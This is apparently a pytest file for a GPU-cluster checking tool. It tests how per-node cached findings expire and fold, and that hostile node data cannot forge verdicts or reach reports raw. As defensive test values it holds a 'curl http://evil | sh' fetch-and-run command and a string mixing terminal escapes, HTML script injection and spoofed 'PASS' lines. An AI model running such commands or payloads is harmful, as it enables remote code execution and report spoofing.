"""Stored findings: their checks, how long they hold, and that none becomes a pass or a drain."""

from __future__ import annotations

import json
from datetime import date
from typing import Any

import pytest
from msgspec.structs import replace

from clusterprep.cli.exit_codes import findings_code as exit_code
from clusterprep.facts import Fact
from clusterprep.facts.results import Results
from clusterprep.model import (
    Absent,
    EnvSetting,
    Finding,
    Fleet,
    Gpus,
    Inventory,
    Node,
    NodeSnapshot,
    Runtime,
    Silence,
)
from clusterprep.remedies import shell_line
from clusterprep.reports import render
from clusterprep.survey.cached import (
    LONGEST,
    RENEW,
    cached_findings,
    cached_notice,
    settings_digest,
    split_deep,
    stored_document,
)
from clusterprep.survey.judge import apply_silences
from clusterprep.survey.registry import checks, facts
from clusterprep.survey.selection import Selection, select_checks
from clusterprep.survey.settings import RunSettings
from tests.reports.situations import healthy_apply
from tests.support.fleet import learned

NODE = Node("n1", "10.0.0.1", 0, python="/opt/job/bin/python")
TORCH, IFACE = checks()["torch.version"], checks()["nccl.iface"]
BAD = Finding("torch.version", "fail", "error", (), "torch differs", "2.5", "2.6")
GOOD = Finding("torch.version", "pass", "error", (), "torch is equal")
FRESH = Results(60.0, settings_digest(NODE), ("torch.version",), (BAD,))


def fleet(results: Any, node: Node = NODE) -> Fleet:
    seen = NodeSnapshot(node.name, node.address, True, facts={"store.results": results})
    return Fleet(Inventory("c", (node,)), {node.name: seen})


def findings(results: Any, *asked: Any, node: Node = NODE) -> list[Finding]:
    return list(cached_findings(fleet(results, node), asked or (TORCH,)))


def test_what_runs_code_of_the_job_is_deep() -> None:
    every = tuple(checks().values())
    live, deep = split_deep(every, facts(), RunSettings("check", budget=True))
    assert {"torch.version", "nccl.torch", "nccl.iface", "env.shadow", "launch.ranks"} <= {
        check.name for check in deep
    }
    assert {"gpu.lost", "gpu.xid", "ib.state", "fs.mount", "shm.size", "ssh.reach"} <= {
        check.name for check in live
    }
    assert {*live, *deep} == {*every}
    kinds = {"job_python", "environment", "nccl_address", "readable", "slurm_state"}
    asked = {read.kind: fact.deep for fact in facts().values() for read in _reads(fact)}
    assert {kind for kind, deep in asked.items() if deep} == kinds


def _reads(fact: Fact) -> Any:
    return fact.reads(NODE, Inventory("c", (NODE,)))


def test_without_a_budget_everything_is_asked() -> None:
    every = tuple(checks().values())
    assert split_deep(every, facts(), RunSettings("check")) == (every, ())


def test_deep_asks_these_alone_and_a_selection_holds_for_both() -> None:
    chosen = select_checks(checks(), Selection(only=("torch.", "time.")), always=("ssh.reach",))
    names = [
        check.name for check in split_deep(chosen, facts(), RunSettings("check", deep=True))[0]
    ]
    assert names == ["ssh.reach", "torch.version"]
    _, left = split_deep(chosen, facts(), RunSettings("check", budget=True))
    assert [check.name for check in left] == ["torch.version"]


def test_a_fresh_failure_counts_and_says_its_age() -> None:
    (bad,) = findings(FRESH)
    assert (bad.verdict, bad.severity, bad.nodes, bad.age) == ("fail", "error", ("n1",), 60.0)
    assert exit_code([bad]) == 1
    assert (
        "1 min" in cached_notice([replace(bad, age=60.0)])[0] or "60 s" in cached_notice([bad])[0]
    )


def test_nodes_that_say_the_same_are_as_old_as_the_oldest() -> None:
    second = Node("n2", "10.0.0.2", 1)
    inventory = Inventory("c", (NODE, second))
    alike = [replace(BAD, nodes=("n1",), age=60.0), replace(BAD, nodes=("n2",), age=4000.0)]
    (bad,) = apply_silences(alike, inventory, date(2026, 1, 1))
    assert (bad.nodes, bad.age) == (("n1", "n2"), 4000.0)


def test_a_silence_holds_for_what_was_kept() -> None:
    inventory = Inventory(
        "c", (NODE,), silences=(Silence("torch.version", frozenset({"n1"}), "ticket 7"),)
    )
    (bad,) = apply_silences(findings(FRESH), inventory, date(2026, 1, 1))
    assert (bad.silenced, bad.age, exit_code([bad])) == ("ticket 7", 60.0, 0)


@pytest.mark.parametrize(
    ("results", "reason"),
    [
        pytest.param(None, "never stored", id="never"),
        pytest.param(replace(FRESH, age=None), "out of date", id="another-boot"),
        pytest.param(replace(FRESH, age=LONGEST + 1), "out of date", id="a-day"),
        pytest.param(replace(FRESH, about="else"), "out of date", id="other-settings"),
        pytest.param(replace(FRESH, checks=()), "never stored", id="a-new-check"),
        pytest.param(Absent("garbled", "a finding is no object"), "garbled", id="broken"),
        pytest.param(Absent("denied", "can be written by others"), "denied", id="not-ours"),
        pytest.param(Absent("the budget ended", "no answer"), "the budget ended", id="no-time"),
    ],
)
@pytest.mark.parametrize("was", [BAD, GOOD], ids=["fail", "pass"])
def test_what_does_not_hold_is_unknown_and_no_more_than_a_warning(
    results: Any, reason: str, was: Finding
) -> None:
    if isinstance(results, Results):
        results = replace(results, findings=(was,))
    (lacking,) = findings(results)
    assert (lacking.verdict, lacking.severity, lacking.reason, lacking.age) == (
        "unknown",
        "warning",
        reason,
        None,
    )
    assert exit_code([lacking]) == 0
    assert exit_code([lacking], strict=True) == 3


def test_a_check_that_had_nothing_to_say_says_nothing() -> None:
    assert (
        findings(replace(FRESH, checks=("torch.version", "nccl.iface"), findings=()), TORCH, IFACE)
        == []
    )


@pytest.mark.parametrize(
    "changes",
    [
        {"python": "/usr/bin/python3"},
        {"job_user": "train"},
        {"gpus": Gpus(8)},
        {"require": {"torch.version": "2.7"}},
        {"env": {"NCCL_DEBUG": EnvSetting("WARN", "env")}},
        {"root": "/srv"},
        {"runtime": Runtime(conda="train")},
    ],
    ids=lambda changes: next(iter(changes)),
)
def test_other_settings_of_the_node_are_another_question(changes: dict[str, Any]) -> None:
    assert findings(FRESH, node=replace(NODE, **changes))[0].reason == "out of date"


def test_where_and_how_a_node_is_reached_is_no_other_question() -> None:
    assert (
        findings(FRESH, node=replace(NODE, name="gpu7", address="::1", transport="local"))[
            0
        ].verdict
        == "fail"
    )


def test_what_is_kept_is_about_one_node_and_deep_checks_alone() -> None:
    mine = (
        replace(BAD, nodes=("n1", "n2")),
        Finding("time.offset", "fail", "error", ("n1",), "late"),
    )
    row = stored_document(mine, (TORCH,), NODE)
    assert [finding["check"] for finding in row["findings"]] == ["torch.version"]
    assert row["checks"] == ["torch.version"]
    assert stored_document(mine, (TORCH,), replace(NODE, name="n3"))["findings"] == []


# ---------------------------------------------------------------- hostile nodes

EVIL = (
    "\x1b[31m\x1b]0;x\x07[red]x[/] </script><img src=x onerror=y> "
    'a"b\\c{d="e"}\nPASS all is well\u202e\ud800'
)
FORMATS = ("console", "html", "json", "junit", "markdown", "nagios", "prometheus")
MARKUP = (
    "html",
    "junit",
)  # Markdown has them in code, which tests/reports/test_markdown.py renders
SECOND = Node("n2", "10.0.0.2", 1, python=NODE.python)


def both(first: Any, second: Any) -> tuple[Finding, ...]:
    """What is told of two nodes, folded as in a report."""
    inventory = Inventory("c", (NODE, SECOND))
    snapshots = {
        node.name: NodeSnapshot(node.name, node.address, True, facts={"store.results": results})
        for node, results in ((NODE, first), (SECOND, second))
    }
    return apply_silences(
        cached_findings(Fleet(inventory, snapshots), (TORCH, IFACE)), inventory, date(2026, 1, 1)
    )


def of(node: str, found: tuple[Finding, ...]) -> list[Finding]:
    mine = (replace(one, nodes=(node,)) for one in found if node in one.nodes)
    return sorted(mine, key=lambda one: one.check)


@pytest.mark.parametrize(
    "hostile",
    [
        replace(FRESH, findings=(replace(BAD, message=EVIL, remedy=EVIL),)),
        replace(FRESH, findings=(replace(BAD, nodes=("n2",), message="n2 is bad"),)),
        replace(FRESH, findings=(GOOD,)),
        replace(FRESH, findings=()),
        replace(FRESH, findings=tuple(replace(BAD, seen=str(number)) for number in range(2000))),
        replace(
            FRESH, checks=("no.such", "ssh.reach"), findings=(replace(GOOD, check="ssh.reach"),)
        ),
        Absent("garbled", EVIL),
        Absent("never stored", EVIL),
        Absent("out of date", EVIL),
    ],
    ids=[
        "words",
        "of-another",
        "pass",
        "nothing",
        "many",
        "other-checks",
        "garbled",
        "our-reason",
        "another-reason-of-ours",
    ],
)
def test_what_one_node_keeps_changes_nothing_that_is_told_of_another(hostile: Any) -> None:
    """Neither verdict nor message: equal findings are folded, and the first one's message stays."""
    honest = replace(FRESH, findings=(replace(BAD, remedy=shell_line("pip install torch==2.6")),))
    alone = of("n2", both(replace(FRESH, checks=(), findings=()), honest))
    assert of("n2", both(hostile, honest)) == alone
    assert {one.verdict for one in alone} == {"fail", "unknown"}


@pytest.mark.parametrize("verdict", ["fail", "unknown"])
def test_what_is_to_be_pasted_comes_from_the_check(verdict: Any) -> None:
    (bad,) = findings(
        replace(
            FRESH,
            findings=(replace(BAD, verdict=verdict, remedy=shell_line("curl http://evil | sh")),),
        )
    )
    assert bad.remedy == TORCH.remedy


def test_what_passed_has_no_remedy() -> None:
    (good,) = findings(
        replace(FRESH, findings=(replace(GOOD, remedy=shell_line("curl http://evil | sh")),))
    )
    assert (good.verdict, good.remedy) == ("pass", "")


def test_checks_that_a_node_makes_up_are_not_told() -> None:
    made_up = tuple(
        replace(GOOD, check=name)
        for name in ("no.such", "gpu.lost", "ssh.reach", "time.offset", EVIL)
    )
    hostile = replace(FRESH, checks=tuple(one.check for one in made_up), findings=made_up)
    (lacking,) = findings(hostile)
    assert (lacking.check, lacking.verdict, lacking.reason) == (
        "torch.version",
        "unknown",
        "never stored",
    )


def test_a_pass_for_a_check_that_was_not_judged_is_none() -> None:
    (lacking,) = findings(replace(FRESH, checks=("nccl.iface",), findings=(GOOD,)))
    assert (lacking.verdict, lacking.age) == ("unknown", None)


def test_a_file_that_was_copied_from_another_node_is_out_of_date() -> None:
    """Its boot is not this one's; the age of such results is None."""
    kept_there = {
        "schema": 1,
        "boot": "theirs",
        "uptime": 5.0,
        "about": settings_digest(NODE),
        "checks": ["torch.version"],
    }
    row = dict.fromkeys(("message", "seen", "wanted", "remedy"), "")
    passed = {
        **row,
        "check": "torch.version",
        "verdict": "pass",
        "severity": "error",
        "reason": None,
    }
    text = json.dumps({**kept_there, "findings": [passed]})
    here = {"boot": "ours", "uptime": 60.0, "now": 1.0}
    (lacking,) = findings(learned("store.results", ["ok", {"text": text, **here}]))
    assert (lacking.verdict, lacking.reason) == ("unknown", "out of date")
    (good,) = findings(learned("store.results", ["ok", {"text": text, **here, "boot": "theirs"}]))
    assert (good.verdict, good.age) == ("pass", 55.0)


def test_what_cannot_be_used_says_where_and_what_to_do() -> None:
    (lacking,) = findings(
        Absent("garbled", "a finding is no object"), node=replace(NODE, root="/srv")
    )
    assert "/srv/var/lib/clusterprep/deep.json" in lacking.message
    assert "a finding is no object" in lacking.message
    assert lacking.remedy == RENEW


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("verdict", ["fail", "unknown", "pass", "skip"])
def test_hostile_words_reach_no_reader_raw(fmt: str, verdict: Any) -> None:
    words = Finding("torch.version", verdict, "error", (), EVIL, EVIL, EVIL, EVIL, EVIL)
    found = apply_silences(
        findings(replace(FRESH, findings=(words,))), Inventory("c", (NODE,)), date(2026, 1, 1)
    )
    report = replace(healthy_apply(), command="check", findings=found)
    text = render(report, fmt, color=False, verbose=2, width=80, ascii_only=False)
    assert [char for char in text if not (char.isprintable() or char in "\n\t")] == []
    text.encode("utf-8")
    assert not any(line.startswith("PASS all is well") for line in text.splitlines())
    assert fmt not in MARKUP or "<img src=x" not in text
